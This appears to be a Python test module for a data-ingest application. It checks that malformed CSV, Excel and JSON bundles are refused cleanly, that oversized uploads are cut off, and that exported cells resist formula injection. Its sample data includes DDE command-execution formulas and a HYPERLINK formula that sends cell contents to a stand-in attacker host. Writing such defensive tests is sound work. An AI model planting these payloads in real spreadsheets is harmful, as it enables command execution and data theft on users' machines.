"""Bad input: malformed bundles in every container end in a clear report and an
unchanged store, never a traceback; oversized uploads are refused unread; every
text written to CSV or Excel is safe against formula injection.

Hypothesis runs under the ``trust`` profile: derandomized (the same examples on
every run, so a failure reproduces) with a fixed number of examples.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from api.errors import TooLarge
from api.uploads import received
from cli.output import FORMULA_STARTS, safe_cell, to_csv
from graph.errors import Invalid
from graph.store import GraphStore
from ingest.pipeline import IngestReport, load_bundle
from ingest.spec import TABLES
from ingest.template import write_template
from ingest.write import COLUMNS, write_bundle

from ..ingest.conftest import sample_tables
from .figures import record

Tables = dict[str, list[dict[str, object]]]

settings.register_profile(
    "trust",
    derandomize=True,
    deadline=None,
    database=None,
    print_blob=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
TRUST = settings.get_profile("trust")

CONTAINERS = ("xlsx", "csv", "json")

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

# -- writing bundles as a careless or hostile user would ----------------------------


def _raw_csv(tables: Tables, folder: Path, encoding: str = "utf-8") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, rows in tables.items():
        header = list(dict.fromkeys(k for row in rows for k in row))
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\r\n")
        writer.writerow(header)
        for row in rows:
            writer.writerow(["" if row.get(h) is None else row.get(h) for h in header])
        (folder / f"{name}.csv").write_bytes(buffer.getvalue().encode(encoding, "surrogatepass"))
    return folder


def _xlsx_value(value: object) -> object:
    if isinstance(value, list | dict):
        return json.dumps(value)
    if isinstance(value, str):  # what no workbook can hold (Excel cannot type it either)
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _raw_xlsx(tables: Tables, path: Path) -> Path:
    """A workbook as openpyxl writes it: a text starting ``=`` becomes a real formula."""
    book = Workbook()
    assert book.active is not None
    book.remove(book.active)
    for name, rows in tables.items():
        sheet = book.create_sheet(name)
        header = list(dict.fromkeys(k for row in rows for k in row))
        sheet.append(header)
        for row in rows:
            sheet.append([_xlsx_value(row.get(h)) for h in header])
    book.save(path)
    return path


def _raw_json(tables: Tables, path: Path) -> Path:
    path.write_text(json.dumps(tables, default=str), encoding="utf-8")
    return path


def write_raw(tables: Tables, container: str, folder: Path, name: str = "bundle") -> Path:
    if container == "csv":
        return _raw_csv(tables, folder / name)
    if container == "xlsx":
        return _raw_xlsx(tables, folder / f"{name}.xlsx")
    return _raw_json(tables, folder / f"{name}.json")


# -- what every refusal must look like ------------------------------------------------


def _state(store: GraphStore) -> tuple[object, ...]:
    return (store.dump(), store.counts(), [r.model_dump(mode="json") for r in store.runs()])


def _clear(report: IngestReport, bundle: Path) -> None:
    """Every error names the file it is in and says why; a cell's error names its cell."""
    assert report.errors
    for error in report.errors:
        assert error.location.file in {bundle.name, *(p.name for p in _files(bundle))}
        assert error.reason.strip()
        if error.location.row is not None:
            assert error.location.sheet in TABLES
        str(error)  # renders
    json.loads(report.to_json())  # and the whole report serialises


def _files(bundle: Path) -> list[Path]:
    return sorted(bundle.iterdir()) if bundle.is_dir() else []


def load_and_check(store: GraphStore, bundle: Path) -> IngestReport:
    """Load ``bundle``; a refusal must be clear and write nothing, an acceptance is
    rolled back and must restore the store exactly (so the next example starts equal)."""
    before = _state(store)
    report = load_bundle(bundle, store)
    record("fuzz_bundles_tried", 1)
    if report.ok:
        assert report.run_id is not None
        store.rollback(report.run_id)
        after = _state(store)
        assert after[0] == before[0]  # the content; the run stays listed, rolled back
        assert {**after[1], "ingest_run": 0} == {**before[1], "ingest_run": 0}  # type: ignore[dict-item]
        record("fuzz_bundles_accepted_then_rolled_back", 1)
    else:
        _clear(report, bundle)
        assert _state(store) == before
        record("fuzz_bundles_refused", 1)
        record("fuzz_errors_reported", len(report.errors))
    return report


def _error_at(report: IngestReport, table: str, row: int, column: str | None) -> bool:
    return any(
        e.location.sheet == table and e.location.row == row and e.column in (column, None)
        for e in report.errors
    )


def _row_number(container: str, index: int) -> int:
    """Spreadsheets and CSV count the header as row 1; JSON counts items from 1."""
    return index + 1 if container == "json" else index + 2


# -- strategies ------------------------------------------------------------------------

CELLS = [(table, i, column) for table, rows in sample_tables().items()
         for i, row in enumerate(rows) for column in row]  # fmt: skip

JUNK = st.one_of(
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.text(max_size=40),
    st.sampled_from(
        ["31/02/2020", "2020-13-01", "yesterday", "0000-00-00", "nope@", "@", "N/A", "-", "??"]
    ),
    st.sampled_from(FORMULAS),
)


HUGE = "<100,000 characters>"
"""Stands for a huge cell in examples (so a failing example prints short)."""


@settings(TRUST, max_examples=15)
@given(
    where=st.sampled_from(CELLS),
    value=st.one_of(JUNK, st.just(HUGE)),
    container=st.sampled_from(CONTAINERS),
)
def test_a_junk_cell_ends_in_a_clear_report_or_an_exact_rollback(
    store: GraphStore,
    tmp_path_factory: pytest.TempPathFactory,
    where: tuple[str, int, str],
    value: object,
    container: str,
) -> None:
    table, index, column = where
    tables = copy.deepcopy(sample_tables())
    tables[table][index][column] = "x" * 100_000 if value == HUGE else value
    bundle = write_raw(tables, container, tmp_path_factory.mktemp("junk"))
    report = load_and_check(store, bundle)
    if isinstance(value, str) and value.startswith("="):
        # A formula is never read, whichever cell it is in: refused where it stands.
        assert _error_at(report, table, _row_number(container, index), column), report.errors


@settings(TRUST, max_examples=12)
@given(
    formula=st.sampled_from(FORMULAS),
    where=st.sampled_from(CELLS),
    container=st.sampled_from(CONTAINERS),
)
def test_a_formula_is_refused_or_kept_as_inert_text(
    store: GraphStore,
    tmp_path_factory: pytest.TempPathFactory,
    formula: str,
    where: tuple[str, int, str],
    container: str,
) -> None:
    tables = copy.deepcopy(sample_tables())
    table, index, column = where
    tables[table][index][column] = formula
    bundle = write_raw(tables, container, tmp_path_factory.mktemp("formula"))
    report = load_and_check(store, bundle)
    if formula.lstrip().startswith("="):
        assert not report.ok
        assert _error_at(report, table, _row_number(container, index), column), report.errors


# -- structural damage: one case per kind, in every container ---------------------------


def _duplicate_person(tables: Tables) -> Tables:
    tables["people"].append(dict(tables["people"][0], name="Ann Twin"))
    return tables


def _mentoring_cycle(tables: Tables) -> Tables:
    row = tables["mentoring"][0]
    tables["mentoring"] += [
        dict(row, mentor_email=row["mentee_email"], mentee_email=row["mentor_email"]),
        dict(row, mentee_email=row["mentor_email"]),  # mentors themself
    ]
    return tables


def _dates_reversed(tables: Tables) -> Tables:
    tables["cohort"][0]["end_date"] = "2018-01-01"  # before its start
    tables["mentoring"][0]["end_date"] = "2019-01-01"  # before its start
    tables["projects"][0]["due_date"] = "2019-01-01"
    return tables


def _missing_required(tables: Tables) -> Tables:
    del tables["people"][1]["email"]
    tables["members"][0]["role"] = None
    return tables


def _unknown_references(tables: Tables) -> Tables:
    tables["people"][0]["organisation"] = "Essex Constabulary Of Mars"
    tables["project_members"][0]["project_id"] = "no-such-project"
    return tables


def _two_cohort_rows(tables: Tables) -> Tables:
    tables["cohort"].append(dict(tables["cohort"][0], cohort_id="c2099"))
    return tables


def _no_tables(tables: Tables) -> Tables:
    return {"readme": [{"note": "nothing here"}]}


DAMAGES: dict[str, Callable[[Tables], Tables]] = {
    "duplicate-person": _duplicate_person,
    "mentoring-cycle": _mentoring_cycle,
    "dates-reversed": _dates_reversed,
    "missing-required": _missing_required,
    "unknown-references": _unknown_references,
    "two-cohort-rows": _two_cohort_rows,
    "no-tables": _no_tables,
}


@pytest.mark.parametrize("container", CONTAINERS)
def test_structural_damage_is_reported_and_writes_nothing(
    store: GraphStore, tmp_path: Path, container: str
) -> None:
    refused = []
    for name, damage in DAMAGES.items():
        bundle = write_raw(damage(sample_tables()), container, tmp_path, name)
        report = load_and_check(store, bundle)
        refused.append((name, not report.ok))
    # A mentoring cycle between two people is allowed (each mentors the other in turn),
    # but mentoring oneself is not; everything else here is an error.
    assert all(ok for _, ok in refused), refused


# -- encodings and broken containers -----------------------------------------------------


def _csv_bundle(tmp_path: Path, encoding: str, *, accents: bool = True) -> Path:
    folder = _raw_csv(sample_tables(), tmp_path / f"enc-{encoding}")
    people = folder / "people.csv"
    text = people.read_bytes().decode("utf-8")
    if accents:
        text = text.replace("Bob Example", "Bøb Exämple")
    people.write_bytes(text.encode(encoding))
    return folder


BROKEN: dict[str, Callable[[Path], Path]] = {
    "csv-invalid-utf8": lambda d: _invalid_utf8_csv(d),
    "csv-utf16-no-bom": lambda d: _csv_bundle(d, "utf-16-le"),
    "csv-utf16-be-no-bom": lambda d: _csv_bundle(d, "utf-16-be"),
    "csv-utf16-ascii-no-bom": lambda d: _csv_bundle(d, "utf-16-le", accents=False),
    "csv-latin1": lambda d: _csv_bundle(d, "latin-1"),
    "csv-nul-bytes": lambda d: _nul_csv(d),
    "csv-unclosed-quote": lambda d: _unclosed_quote_csv(d),
    "csv-empty-folder": lambda d: _empty_folder(d),
    "json-invalid-utf8": lambda d: _write(d / "b.json", b'{"cohort": {"name": "\xff\xfe"}}'),
    "json-utf16-no-bom": lambda d: _write(
        d / "b.json", json.dumps(sample_tables()).encode("utf-16-le")
    ),
    "json-not-an-object": lambda d: _write(d / "b.json", b"[1, 2, 3]"),
    "json-truncated": lambda d: _write(d / "b.json", json.dumps(sample_tables())[:300].encode()),
    "json-deeply-nested": lambda d: _write(d / "b.json", b'{"people": ' + b"[" * 100_000),
    "json-duplicate-table": lambda d: _write(
        d / "b.json", _duplicate_table_json(json.dumps(sample_tables()))
    ),
    "json-duplicate-column": lambda d: _write(
        d / "b.json",
        json.dumps(sample_tables())
        .replace('"name": "Bob Example"', '"name": "Bob Example", "name": "Robert Example"')
        .encode(),
    ),
    "json-nan": lambda d: _write(
        d / "b.json", json.dumps(sample_tables()).replace('"2019-05-01"', "NaN").encode()
    ),
    "json-table-not-a-list": lambda d: _write(d / "b.json", b'{"people": "everyone"}'),
    "xlsx-not-a-zip": lambda d: _write(d / "b.xlsx", b"PK\x03\x04 this is not a workbook"),
    "xlsx-truncated": lambda d: _truncated_xlsx(d),
    "xlsx-a-zip-of-nothing": lambda d: _zip_of_nothing(d),
    "xlsx-excel-error-cell": lambda d: _excel_error_xlsx(d),
}


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _invalid_utf8_csv(tmp_path: Path) -> Path:
    folder = _raw_csv(sample_tables(), tmp_path / "bad-utf8")
    people = folder / "people.csv"
    people.write_bytes(people.read_bytes().replace(b"Bob", b"B\xc3\x28b"))
    return folder


def _nul_csv(tmp_path: Path) -> Path:
    folder = _raw_csv(sample_tables(), tmp_path / "nul")
    people = folder / "people.csv"
    people.write_bytes(people.read_bytes().replace(b"Bob", b"B\x00b"))
    return folder


def _unclosed_quote_csv(tmp_path: Path) -> Path:
    folder = _raw_csv(sample_tables(), tmp_path / "quote")
    people = folder / "people.csv"
    people.write_bytes(people.read_bytes().replace(b"Bob Example", b'"Bob Example'))
    return folder


def _empty_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "empty"
    folder.mkdir()
    (folder / "notes.txt").write_text("no tables here")
    return folder


def _duplicate_table_json(text: str) -> bytes:
    # The people table twice: the second would silently replace the first.
    people = json.dumps(sample_tables()["people"][:1])
    return (text[:-1] + f', "people": {people}}}').encode()


def _truncated_xlsx(tmp_path: Path) -> Path:
    whole = write_bundle(sample_tables(), tmp_path / "whole.xlsx").read_bytes()
    return _write(tmp_path / "b.xlsx", whole[: len(whole) // 2])


def _zip_of_nothing(tmp_path: Path) -> Path:
    import zipfile

    path = tmp_path / "b.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    return path


def _excel_error_xlsx(tmp_path: Path) -> Path:
    path = write_bundle(sample_tables(), tmp_path / "b.xlsx")
    book = load_workbook(path)
    book["people"]["B3"].value = "#DIV/0!"
    book["people"]["B3"].data_type = "e"
    book.save(path)
    return path


REASONS = {
    "csv-invalid-utf8": "not UTF-8",
    "csv-nul-bytes": "NUL character",
    "csv-utf16-no-bom": "not UTF-8",
    "csv-utf16-ascii-no-bom": "NUL character",  # ASCII in UTF-16 is valid UTF-8, with NULs
    "json-invalid-utf8": "not UTF-8",
    "json-utf16-no-bom": "NUL character",
    "json-deeply-nested": "nested too deeply",
    "json-duplicate-table": "appears twice",
    "json-duplicate-column": "appears twice",
    "json-not-an-object": "must be an object",
    "json-truncated": "not valid JSON",
    "xlsx-not-a-zip": "not a readable .xlsx",
    "xlsx-truncated": "not a readable .xlsx",
    "xlsx-excel-error-cell": "Excel error",
}
"""What the report must say, where one reason is the right one."""


@pytest.mark.parametrize("case", sorted(BROKEN))
def test_broken_encoding_or_container_is_reported_and_writes_nothing(
    store: GraphStore, tmp_path: Path, case: str
) -> None:
    bundle = BROKEN[case](tmp_path)
    report = load_and_check(store, bundle)
    assert not report.ok, f"{case} was accepted"
    if case in REASONS:
        assert any(REASONS[case] in e.reason for e in report.errors), report.errors


# -- 10,000 errors at once ------------------------------------------------------------------


@pytest.mark.parametrize("container", CONTAINERS)
def test_ten_thousand_errors_are_all_reported_and_nothing_written(
    store: GraphStore, tmp_path: Path, container: str
) -> None:
    tables = sample_tables()
    tables["people"] += [
        {"email": f"not-an-email-{i}", "name": f"P{i}", "organisation": "ECC"}
        for i in range(10_000)
    ]
    bundle = write_raw(tables, container, tmp_path)
    report = load_and_check(store, bundle)
    bad_emails = {(e.location.row, e.column) for e in report.errors if e.column == "email"}
    first = _row_number(container, 4)
    assert {(first + i, "email") for i in range(10_000)} <= bad_emails


# -- uploads over the limit are refused before they are read ----------------------------


class CountingStream(io.RawIOBase):
    """An endless upload that counts the bytes taken from it."""

    def __init__(self) -> None:
        self.taken = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        view = memoryview(buffer)
        view[:] = b"x" * len(view)
        self.taken += len(view)
        return len(view)


def test_load_upload_stops_reading_at_the_limit(store: GraphStore) -> None:
    stream = CountingStream()
    before = _state(store)
    with (
        pytest.raises(TooLarge, match="larger than 1000 bytes"),
        received("big.json", stream, max_bytes=1000, max_unzipped_bytes=1000),
    ):
        pytest.fail("an upload over the limit is never handed on")
    # It reads in 1 MiB chunks: at most one chunk, never the whole (endless) body.
    assert 1000 < stream.taken <= 1024 * 1024
    assert _state(store) == before


def _asgi_upload(
    app: Any, headers: list[tuple[bytes, bytes]], chunk: int, chunks: int, first: bytes = b""
) -> tuple[int, int, bytes]:
    """POST /ingest straight through ASGI; the body is ``chunks`` chunks, counted as taken."""
    import asyncio

    taken = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal taken
        if taken >= chunk * chunks:
            return {"type": "http.disconnect"}
        body = (first + b"x" * chunk)[:chunk] if taken == 0 else b"x" * chunk
        taken += chunk
        return {"type": "http.request", "body": body, "more_body": taken < chunk * chunks}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/ingest",
        "raw_path": b"/ingest",
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"testserver"), *headers],
        "client": ("127.0.0.1", 1234),
        "server": ("testserver", 80),
        "state": {},
    }
    asyncio.run(app(scope, receive, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return start["status"], taken, body


def test_an_upload_declared_too_large_gets_413_without_its_body_being_read(
    store: GraphStore,
) -> None:
    from api.app import create_app
    from api.settings import ApiSettings

    app = create_app(store=store, settings=ApiSettings(max_upload_bytes=10_000))
    app.state.store = store
    headers = [
        (b"content-type", b"multipart/form-data; boundary=x"),
        (b"content-length", str(10**9).encode()),
        (b"authorization", b"Bearer ag_not-a-key"),
    ]
    status, taken, body = _asgi_upload(app, headers, chunk=64 * 1024, chunks=16_000)
    assert status == 413
    assert taken == 0  # refused on the declared length: not one byte read
    assert json.loads(body)["status"] == 413


def test_a_streamed_upload_over_the_limit_is_cut_off_at_the_limit(store: GraphStore) -> None:
    from api.app import MULTIPART_ALLOWANCE, create_app
    from api.settings import ApiSettings

    app = create_app(store=store, settings=ApiSettings(max_upload_bytes=10_000))
    app.state.store = store
    headers = [(b"content-type", b"multipart/form-data; boundary=x")]  # no length: chunked
    chunk = 16 * 1024
    part = (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="b.json"\r\n'
        b"Content-Type: application/json\r\n\r\n"
    )
    status, taken, body = _asgi_upload(app, headers, chunk=chunk, chunks=16_000, first=part)
    assert status == 413, body
    assert taken <= 10_000 + MULTIPART_ALLOWANCE + chunk  # 250 MB offered


# -- every CSV and Excel writer is safe against formula injection ----------------------------

RISKY_TEXT = st.one_of(
    st.text(max_size=30),
    st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_STARTS), st.text(max_size=20)),
    st.sampled_from(FORMULAS),
)


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


CR_FREE_TEXT = RISKY_TEXT.filter(lambda t: "\r" not in t)
"""Texts without a carriage return (see the expected failure below)."""


@settings(TRUST, max_examples=200)
@given(rows=st.lists(st.lists(st.one_of(CR_FREE_TEXT, st.integers()), min_size=3, max_size=3)))
def test_cli_csv_never_starts_a_cell_with_a_formula_character(rows: list[list[object]]) -> None:
    header = ("scope", "=name", "+metric")
    text = to_csv(header, rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    record("formula_cells_checked", sum(len(r) for r in parsed))
    assert len(parsed) == len(rows) + 1
    for written, given_row in zip(parsed[1:], rows, strict=True):
        for cell, value in zip(written, given_row, strict=True):
            if isinstance(value, int):  # a number is written as a number: -1 is data
                assert cell == str(value)
                continue
            assert not _dangerous(cell), cell
            # Nothing is lost: the text is the value, or the value behind one apostrophe.
            assert cell in (str(value), "'" + str(value))
    assert safe_cell(5) == 5


def test_cli_csv_keeps_a_carriage_return_inside_its_cell() -> None:
    hostile = "Essex Police\r=1+cmd|' /C calc'!A0"
    parsed = list(csv.reader(io.StringIO(to_csv(("name", "n"), [[hostile, 1]]), newline="")))
    assert parsed == [["name", "n"], [hostile, "1"]]


@settings(TRUST, max_examples=60)
@given(data=st.data(), container=st.sampled_from(("xlsx", "csv")))
def test_write_bundle_refuses_or_neutralises_every_formula(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject, container: str
) -> None:
    table = data.draw(st.sampled_from(sorted(COLUMNS)))
    column = data.draw(st.sampled_from(COLUMNS[table]))
    value = data.draw(RISKY_TEXT)
    folder = tmp_path_factory.mktemp("written")
    path = folder / ("b.xlsx" if container == "xlsx" else "b")
    try:
        write_bundle({table: [{column: value}]}, path)
    except Invalid as refused:
        # Refused only for a reason it names (a formula, a text cell that cannot be
        # written), never silently.
        assert refused.problems
        return
    record("formula_cells_checked", 1)
    if container == "csv":
        for csv_file in path.glob("*.csv"):
            for row in csv.reader(io.StringIO(csv_file.read_text("utf-8-sig"), newline="")):
                assert not any(_dangerous(c) for c in row), row
        return
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _dangerous(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)


def test_template_workbook_has_no_live_formula(tmp_path: Path) -> None:
    book = load_workbook(write_template(tmp_path / "template.xlsx"))
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                checked += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _dangerous(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    assert checked > 50
